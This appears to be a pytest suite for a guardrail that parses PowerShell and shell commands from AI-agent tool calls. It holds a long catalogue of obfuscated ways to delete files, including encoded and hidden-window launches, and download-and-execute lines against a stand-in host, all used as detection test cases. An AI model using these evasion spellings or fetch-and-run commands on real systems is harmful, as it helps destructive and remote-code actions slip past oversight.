"""PowerShell text: what it runs, under whatever spelling, and what is said where nobody can know."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pykiro_opa.catalogue import cmdlets
from pykiro_opa.changes import POWERSHELL, Change, Command
from pykiro_opa.facts import shell
from pykiro_opa.facts.api_calls import from_commands
from pykiro_opa.facts.powershell.statements import read
from pykiro_opa.facts.scripts import scripts
from pykiro_opa.hosts import decode

FILES = {
    "s.ps1": b"param([string]$Path, [switch]$Deep)\nRemove-Item $Path -Recurse:$Deep\n",
    "code.txt": b"Remove-Item x\n",
    "m.psm1": b"function Clear-It { Remove-Item x }\n",
    "q.sql": b"DROP TABLE a;\n",
}
DELETED = {"rm", "remove-item"}


def evaluate(text, language=POWERSHELL, **changed):
    given_ = {"path": "<command>", "line": 1, "cwd": "", "read": FILES.get, "runs_now": True, "root": "/w"}
    return shell.evaluate(text, language=language, **{**given_, **changed})


def argvs(text, language=POWERSHELL):
    return [command["argv"] for command in evaluate(text, language).commands]


def programs(text, language=POWERSHELL):
    return {command["program"] for command in evaluate(text, language).commands}


def effects(text):
    return {(effect.path, effect.kind) for effect in evaluate(text).effects}


def unknowns(text, language=POWERSHELL):
    return [fact["what"] for fact in evaluate(text, language).unresolved]


def encoded(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


# Ways to write `Remove-Item x`.
SPELLINGS = [
    "Remove-Item x", "remove-item x", "ri x", "RI x", "rm x", "del x", "erase x", "rd x", "rmdir x", "Remove-Item -Path x",
    "Remove-Item -Pa x", "Remove-Item -Path:x", "Remove-Item -LiteralPath x", "Remove-Item -LP x", "& Remove-Item x",
    "&'Remove-Item' x", "& ('Remove' + '-Item') x", "& ('{1}{0}' -f '-Item', 'Remove') x", "&(\"{0}\" -f 'ri') x",
    "& ('r','i' -join '') x", "& (-join ('r', 'i')) x", "$c = 'ri'; & $c x", "$c = 'Remove-'; & \"${c}Item\" x", "`Re`move-Item x",
    "R`emove-Item x", "& ([char]114 + [char]105) x", "& ([char[]](114, 105) -join '') x", "& 'xri'.Substring(1) x",
    "& 'Qemove-Item'.Replace('Q', 'R') x", "& ('Qemove-Item' -replace 'Q', 'R') x", "& 'ir'[1, 0] x; & ('ir'[1, 0] -join '') x",
    "& ('ir'[-1..-2] -join '') x", "iex 'Remove-Item x'", "'Remove-Item x' | iex", 'Invoke-Expression "Remove-Item x"',
    "iex (Get-Content code.txt)", "Get-Content code.txt | iex", "gc code.txt -Raw | Invoke-Expression", "& { Remove-Item x }",
    ". { Remove-Item x }", "$b = { Remove-Item x }; & $b", "{ Remove-Item x }.Invoke()", "[scriptblock]::Create('Remove-Item x').Invoke()",
    "& ([scriptblock]::Create('Remove-Item x'))", "Invoke-Command { Remove-Item x }", "icm -ScriptBlock { Remove-Item x }",
    "Start-Job -ScriptBlock { Remove-Item x }", "1 | % { Remove-Item x }", "'x' | ForEach-Object { Remove-Item $_ }", "'x' | Remove-Item",
    "foreach ($f in 'x') { Remove-Item $f }", "if ($a) { Remove-Item x }", "if ($a) { 1 } else { Remove-Item x }", "try { Remove-Item x } catch { 1 }",
    "try { 1 } finally { Remove-Item x }", "switch ($a) { 1 { Remove-Item x } }", "while ($a) { Remove-Item x }", "do { Remove-Item x } until ($a)",
    "for ($i = 0; $i -lt 3; $i++) { Remove-Item x }", "function f { Remove-Item x }; f", "function f { Remove-Item x }",
    "function f($p) { Remove-Item $p }; f x", "function f { param($p) Remove-Item $p }; f -p x", "filter f { Remove-Item $_ }; 'x' | f",
    "$h = @{ Path = 'x' }; Remove-Item @h", "$a = @('x'); Remove-Item @a", "Set-Alias z Remove-Item; z x", "New-Alias -Name z -Value ri; z x",
    "ls | ? { Remove-Item x }", "a && Remove-Item x", "a || Remove-Item x", "Remove-Item x &", "a; Remove-Item x", "a\nRemove-Item x",
    "$null = Remove-Item x", "[void](Remove-Item x)", "@(Remove-Item x)", '"$(Remove-Item x)"', "$y = $(Remove-Item x)", "Write-Host (Remove-Item x)",
    "return Remove-Item x", "Remove-Item `\n x", "Remove-Item <# a #> x # b", "& (Get-Command Remove-Item) x", "./s.ps1 x", ".\\s.ps1 -Path x", "& ./s.ps1 x",
    ". ./s.ps1 x", "Import-Module ./m.psm1", "class A { [void] Go() { Remove-Item x } }", "trap { Remove-Item x }", "begin { Remove-Item x } end { }",
    "pwsh -c 'Remove-Item x'", "powershell -Command Remove-Item x", "pwsh -File s.ps1 x", "Start-Process pwsh -ArgumentList '-c', 'Remove-Item x'",
    "Start-Process pwsh '-c Remove-Item x'", "saps pwsh -Args '-c \"Remove-Item x\"'", "cmd /c 'del x'", "[IO.File]::Delete('x')", "[System.IO.File]::Delete('x')",
    "$f = [IO.FileInfo]'x'; [IO.Directory]::Delete('x', $true)", "[Diagnostics.Process]::Start('pwsh', '-c Remove-Item x')",
    "$ExecutionContext.InvokeCommand.InvokeScript('Remove-Item x')", "[powershell]::Create().AddScript('Remove-Item x').Invoke()",
    f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{encoded('Remove-Item x')}')))", f"pwsh -enc {encoded('Remove-Item x')}",
    ".($PSHome[21] + $PSHome[30] + 'x') 'Remove-Item x'", "& ($ShellId[1] + $ShellId[13] + 'x') 'Remove-Item x'", "&($env:ComSpec[4,24,25] -join '') 'Remove-Item x'",
    "$a = 'm', 'e', 't', 'I', '-', 'e', 'v', 'o', 'm', 'e', 'R'; [array]::Reverse($a); & (-join $a) x", "\u2018Remove-Item x\u2019 | iex",
    "Remove-Item \u2013Path x", "$global:c = 'ri'; function f { & $c x }; f", "function f { $script:c = 'ri' }; f; & $c x", "1 | % { $c = 'ri' }; & $c x",
    "Set-Variable c ri; & $c x", "$env:C = 'ri'; & $env:C x", "Set-Item env:C ri; & $env:C x", "$c = @{ a = 'ri' }; & $c.a x", "$c = $true ? 'ri' : 'ri'; ri x",
    "$a, $b = 'ri', 'x'; & $a $b", "& (gcm ri) x", "Invoke-Item ./s.ps1; ri x", "& $('ri') x", "[string]::Join('', 'r', 'i') | % { & $_ x }",
]  # fmt: skip


@pytest.mark.parametrize("text", SPELLINGS)
def test_a_deletion_is_known_under_any_spelling(text):
    assert programs(text) & DELETED


@pytest.mark.parametrize(
    "text", ["del x", "Remove-Item x", "ri -Force x", "'x' | ri", "iex 'rd x'", "[IO.File]::Delete('x')"]
)
def test_what_is_deleted_is_a_file_that_changes(text):
    assert ("x", "deleted") in effects(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Set-Content a.txt b", {("a.txt", "written")}), ("'b' | Out-File a.txt", {("a.txt", "written")}), ("'b' > a.txt", {("a.txt", "written")}),
        ("git log >> a.txt", {("a.txt", "written")}), ("git log 2> $null", set()), ("ni a.txt", {("a.txt", "written")}),
        ("[IO.File]::WriteAllText('a.txt', 'b')", {("a.txt", "written")}), ("Copy-Item a b/c", {("b/c/a", "written"), ("b/c", "written")}),
        ("mi a b", {("a", "deleted"), ("b/a", "written"), ("b", "written")}), ("cd sub; del a", {("sub/a", "deleted")}),
        ("Push-Location sub; ri a", {("sub/a", "deleted")}), ("iwr https://x -OutFile a.zip", {("a.zip", "written")}),
        ("Clear-Content a.txt", {("a.txt", "written")}), ("Get-ChildItem -Recurse -Filter *.tmp | Remove-Item", {("**/*.tmp", "deleted")}),
        ("Remove-Item C:\\Users\\me\\x -Recurse", {("/C:/Users/me/x", "deleted")}), ("Remove-Item .\\a\\b", {("a/b", "deleted")}),
        ("Remove-Item $HOME\\x", {("/root/x", "deleted")}), ("Remove-Item HKLM:\\Software\\x -Recurse", set()), ("Remove-Item x -WhatIf", set()),
        ("Remove-Item x -WhatIf:$false", {("x", "deleted")}),
        ("Remove-Item a, b", {("a", "deleted"), ("b", "deleted")}), ("Remove-Item (Join-Path a b)", {("a/b", "deleted")}),
    ],
)  # fmt: skip
def test_what_cmdlets_do_to_files(text, expected, monkeypatch):
    monkeypatch.setenv("HOME", "/root")

    assert expected == effects(text)


def test_the_content_of_a_file_is_known():
    (effect,) = evaluate('Set-Content -Path a.txt -Value "x$(1 + 1)"').effects

    assert b"x2\n" == effect.content


@pytest.mark.parametrize(
    "text",
    [
        "& $c x", "iex $c", "iwr https://x | iex", "iex (irm https://x)", "IEX(New-Object Net.WebClient).DownloadString('https://x')", "$c | iex",
        "[scriptblock]::Create($c).Invoke()", "$c.Invoke()", "Invoke-Command -ScriptBlock ([scriptblock]::Create($c))", "pwsh -c $c", "pwsh -enc $c",
        "(", "'", "if (", "$x = ", "} rm x", "rm 'x", "@'\nx", "if ($a) { $c = 'ri' } else { $c = 'ls' }; & $c x", "while ($a) { & $c x; $c = 'ri' }",
        "[Reflection.Assembly]::Load($b)", "Add-Type -TypeDefinition $c", "$a.$c()", "iwr https://x -OutFile a.ps1; ./a.ps1",
        "function f { f }; f", "iex ((1..3 | % { $c }) -join '')",
    ],
)  # fmt: skip
def test_what_nobody_can_know_is_unresolved(text):
    assert unknowns(text)


# Ordinary lines, of which every one is read to its end.
ORDINARY = [
    "npm run build -- --prod", "git checkout -- .", 'git commit -m "a b"', 'git commit -m @"\na: b\n"@', "git stash push -m 'x'", "mvn -Dtest=Foo test",
    "make -j4 all", "npm i @scope/pkg", "docker run --rm -v ${PWD}:/app node:20 npm ci", "kubectl get pods -o jsonpath='{.items[*].metadata.name}'",
    "Get-ChildItem -Path src -Recurse -Include *.ts | Select-String -Pattern 'TODO' | Select-Object -First 5", "$env:NODE_ENV = 'test'; npm test",
    "(Get-Content a.json | ConvertFrom-Json).version", "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5 | Format-Table -AutoSize",
    "if (-not (Test-Path dist)) { New-Item -ItemType Directory dist | Out-Null }", "$x ? 1 : 2", "$x ?? 3", "${x}?.y", "Get-Date -Format 'yyyy-MM-dd'",
    "python -m pytest -q tests/test_a.py::test_b", 'dotnet test --filter "Category=Unit"', "1..3 | ForEach-Object { $_ * 2 }", 'Write-Host "done: $($x.Count)"',
    "aws ec2 describe-instances --filters \"Name=tag:Name,Values=x\" --query 'Reservations[].Instances[]'", "[math]::Round(3.14159, 2)", "$x = @{ a = 1; 'b' = 2 }; $x.a",
    "Get-Content x | Where-Object { $_ -match '^a' -and $_ -notlike 'b*' } | Measure-Object -Line", "try { npm ci } catch { Write-Error $_; exit 1 }",
    "$ErrorActionPreference = 'Stop'\nSet-StrictMode -Version Latest\n#requires -Version 7\nusing namespace System.IO", "foreach ($f in Get-ChildItem *.md) { Write-Output $f.Name }",
    "git diff HEAD~1 --stat 2>&1 | Tee-Object -FilePath log.txt", "Invoke-RestMethod -Uri https://api.example.com/x -Method Get | ConvertTo-Json -Depth 5", "ls -la", "cd ..; ls",
    'function Get-It { [CmdletBinding()] param([Parameter(Mandatory = $true)][string]$Name, [int]$N = 3) process { Write-Output "$Name $N" } }\nGet-It -Name a',
    "[pscustomobject]@{ A = 1; B = 'x' } | Format-List", "$a = \"x\" + 'y'; $a += 'z'; \"$a\"", "gci | group Extension | sort Count -desc", "cmd /c ver", 'node -e "console.log(1)"',
    "Get-ChildItem env:PATH", "$a[0].b('c').d", "switch -Regex ($x) { '^a' { 'b' } default { 'c' } }", "& 'C:\\Program Files\\Git\\bin\\git.exe' status", "$x = [int]'3' + 4",
    "aws s3 ls --% s3://a|b", "Start-Sleep -Seconds 2; curl.exe -s https://localhost:3000/a?b=c", "$l = [System.Collections.Generic.List[string]]::new(); $l.Add('a')",
    "Get-Command git -ErrorAction SilentlyContinue", "pnpm exec tsc --noEmit; if ($LASTEXITCODE -ne 0) { exit $LASTEXITCODE }", "\"a\" -in @('a', 'b')", "Get-Help about_Splatting",
]  # fmt: skip


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_read_whole(text):
    statements, errors = read(text, 1)

    assert 0 == errors
    assert statements or text.startswith("#")
    assert [] == unknowns(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("New-IAMUser -UserName bob", "iam:CreateUser"), ("Remove-S3Bucket -BucketName b -Force", "s3:DeleteBucket"), ("Get-EC2Instance", "ec2:DescribeInstances"),
        ("Get-IAMUserList", "iam:ListUsers"), ("Remove-EC2Instance -InstanceId i-1", "ec2:TerminateInstances"), ("Remove-RDSDBInstance x", "rds:DeleteDBInstance"),
        ("Register-IAMUserPolicy -UserName a -PolicyArn b", "iam:AttachUserPolicy"), ("New-IAMAccessKey", "iam:CreateAccessKey"), ("Remove-DDBTable x", "dynamodb:DeleteTable"),
        ("Edit-RDSDBInstance x", "rds:ModifyDBInstance"), ("Get-SECSecretValue -SecretId x", "secretsmanager:GetSecretValue"), ("Publish-SNSMessage x", "sns:Publish"),
        ("Request-KMSKeyDeletion x", "kms:ScheduleKeyDeletion"), ("Write-S3Object -BucketName b", "s3:PutObject"), ("Set-IAMWhatever x", "iam:*"), ("Get-IAMWhatever", "iam:Get*"),
        ("aws iam create-user --user-name bob", "iam:CreateUser"), ("& aws iam create-user", "iam:CreateUser"), ("Aws.exe iam create-user", "iam:CreateUser"),
        ("Invoke-Expression 'aws iam create-user'", "iam:CreateUser"), ("Stop-CTLogging x", "cloudtrail:StopLogging"),
    ],
)  # fmt: skip
def test_cmdlets_of_aws_are_calls(text, expected):
    calls, _ = from_commands(evaluate(text).commands, production={"names": [], "accounts": []}, read=FILES.get)

    assert expected in {call["action"] for call in calls}


@pytest.mark.parametrize(
    "text",
    ["Get-Content x", "New-Item x", "Write-Output x", "Get-Service x", "Get-Secret x", "Set-Location x", "Get-AzVM"],
)
def test_other_cmdlets_are_no_calls(text):
    calls, _ = from_commands(evaluate(text).commands, production={"names": [], "accounts": []}, read=FILES.get)

    assert [] == calls


def test_the_parameters_of_a_call_are_those_of_the_command_line():
    assert ["aws", "iam", "create-user", "--user-name", "bob", "--profile", "prod"] in argvs(
        "New-IAMUser -UserName bob -ProfileName prod"
    )


@pytest.mark.parametrize(
    "text",
    [
        "Invoke-Sqlcmd -Query 'DROP TABLE a'",
        "Invoke-Sqlcmd 'DROP TABLE a'",
        "sqlcmd -Q 'DROP TABLE a'",
        "Invoke-Sqlcmd -InputFile q.sql",
    ],
)
def test_sql_is_read(text):
    assert any("DROP TABLE a" in query.text for query in evaluate(text).queries)


@pytest.mark.parametrize(
    "text",
    [
        "pwsh -c 'Remove-Item x'", "pwsh -Command Remove-Item x", 'powershell.exe -NoProfile -ExecutionPolicy Bypass -c "Remove-Item x"', "pwsh -nop -File s.ps1 x",
        "pwsh s.ps1 x", f"powershell -e {encoded('Remove-Item x')}", f"powershell -NoP -W Hidden -enc {encoded('ri x')}", f"pwsh -EncodedCommand {encoded('del x')}",
        f"powershell /enc {encoded('del x')}", "echo 'Remove-Item x' | pwsh -c -", "echo 'Remove-Item x' | pwsh", "X='Remove-Item x'; pwsh -c \"$X\"", "sudo pwsh -c 'ri x'",
        "bash -c \"pwsh -c 'ri x'\"", "pwsh -c '{ ri x }.Invoke()'", "pwsh -c 'bash -c \"rm x\"'", "powershell ri x",
    ],
)  # fmt: skip
def test_powershell_in_a_shell_is_read(text):
    assert programs(text, "shell") & DELETED


@pytest.mark.parametrize(
    "text",
    [
        'pwsh -c "$X"',
        'pwsh -enc "$X"',
        "curl x | pwsh",
        "curl x | pwsh -NoLogo -Command -",
        f"pwsh -enc {encoded('(')}",
    ],
)
def test_powershell_that_a_shell_does_not_know_is_unresolved(text):
    assert unknowns(text, "shell")


def test_what_is_no_base64_runs_nothing():
    assert [] == unknowns("powershell -EncodedCommand --help", "shell")


@pytest.mark.parametrize("tool", ["execute_pwsh", "executePwsh", "PowerShell", "@windows/run_powershell"])
def test_a_tool_of_powershell_is_read_as_such(tool, tmp_path):
    _, change = decode(
        f'{{"hook_event_name": "PreToolUse", "cwd": ".", "tool_name": "{tool}", "tool_input": {{"command": "ri x"}}}}'.encode(),
        str(tmp_path),
    )

    assert [POWERSHELL] == [command.language for command in change.commands]


def test_a_shell_is_no_powershell(tmp_path):
    _, change = decode(
        b'{"hook_event_name": "PreToolUse", "cwd": ".", "tool_name": "execute_bash", "tool_input": {"command": "ri x"}}',
        str(tmp_path),
    )

    assert ["shell"] == [command.language for command in change.commands]


def test_a_file_of_powershell_holds_a_script():
    (found,) = scripts("build/a.ps1", "Remove-Item x\n")

    assert POWERSHELL == found.language
    assert {"Remove-Item x"} == {command["text"] for command in evaluate(found.text, runs_now=False).commands}


def test_commands_stand_where_they_are_written():
    found = evaluate("ls\nif ($a) {\n  Remove-Item `\n    x\n}\n").commands

    assert {("Remove-Item `\n    x", 3)} == {
        (one["text"], one["at"]["line"]) for one in found if one["program"] in DELETED
    }


@pytest.mark.parametrize(
    ("entry", "text", "matches"),
    [
        ("Remove-Item", "ri x", True), ("remove-item", "DEL x", True), ("del", "Remove-Item x", True), ("rm", "Remove-Item x", True), ("ri -Recurse", "rd x -rec", True),
        ("Remove-Item -Recurse", "rm -r x", True), ("rm -rf", "Remove-Item x -Recurse -Force", True), ("Remove-Item -Recurse", "ri x", False), ("iex", "Invoke-Expression $x", True),
        ("Invoke-WebRequest", "iwr https://x", True), ("curl", "iwr https://x", True), ("Stop-Process", "spps 3", True), ("kill", "Stop-Process -Id 3", True), ("Remove-Item", "ls", False),
        ("Remove-AzVM", "remove-azvm -Name x", True), ("rmdir", "rmdir x", True), ("cat", "Get-Content x", True), ("Get-Content", "type x", True),
    ],
)  # fmt: skip
def test_an_entry_matches_a_cmdlet_and_its_aliases(entry, text, matches):
    from pykiro_opa.guardrails.matchers import command

    wanted = command(entry, "")
    found = evaluate(text).commands

    assert matches == any(
        wanted["program"] == one["program"]
        and wanted["words"] == one["words"][: len(wanted["words"])]
        and set(wanted["options"]) <= set(one["options"])
        for one in found
    )


@pytest.mark.parametrize(
    "name", ["rm", "git", "apt-get", "docker-compose", "update-grub", "cat", "sort", "%", "?", "where"]
)
def test_programs_of_other_systems_keep_their_names(name):
    assert name == cmdlets.plain_name(name) or name in ("%", "?", "where")
    assert not cmdlets.is_cmdlet(name)


@pytest.mark.parametrize(
    "text",
    ["Get-Content x", "Get-ChildItem -Recurse", "Test-Path x", "Write-Host x", "Select-String a x", "Get-Process"],
)
def test_reading_cmdlets_only_read(text):
    assert all(command["reads_only"] for command in evaluate(text).commands)


@pytest.mark.parametrize(
    "text", ["Remove-Item x", "Stop-Process 1", "Format-Volume D", "New-Item x", "Invoke-Expression $x", "Get-Date > x"]
)
def test_other_cmdlets_do_more_than_read(text):
    assert not all(command["reads_only"] for command in evaluate(text).commands)


def test_loops_end():
    found = evaluate(
        'foreach ($i in 1..50) { foreach ($j in 1..50) { foreach ($k in 1..50) { Remove-Item "$i$j$k" } } }'
    )

    assert "size" in {fact["what"] for fact in found.unresolved}


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from("$(){}[]@'\"`|;&<>#,.:-=+%?! \nax1_"), max_size=60))
def test_no_text_is_left_without_a_word(text):
    found = evaluate(text)
    _, errors = read(text, 1)

    assert not errors or "code" in {fact["what"] for fact in found.unresolved}


@settings(max_examples=100, deadline=None)
@given(
    st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0\ue000\r"), min_size=1, max_size=30)
)
def test_a_quoted_text_is_what_it_says(text):
    quoted = "'" + text.translate({ord(mark): "'" for mark in "\u2018\u2019\u201a\u201b"}).replace("'", "''") + "'"
    found = evaluate(f"git tag {quoted}").commands

    assert 1 == len([one for one in found if one["program"] == "git"])


def test_a_change_of_a_command_says_its_language():
    change = Change("task", "command", root="/w", commands=(Command("ri x", language=POWERSHELL),), read=lambda _: None)
    from pykiro_opa.facts.extract import extract

    assert {"rm", "remove-item"} <= {
        one["program"] for one in extract(change, {"names": [], "accounts": []})["commands"]
    }
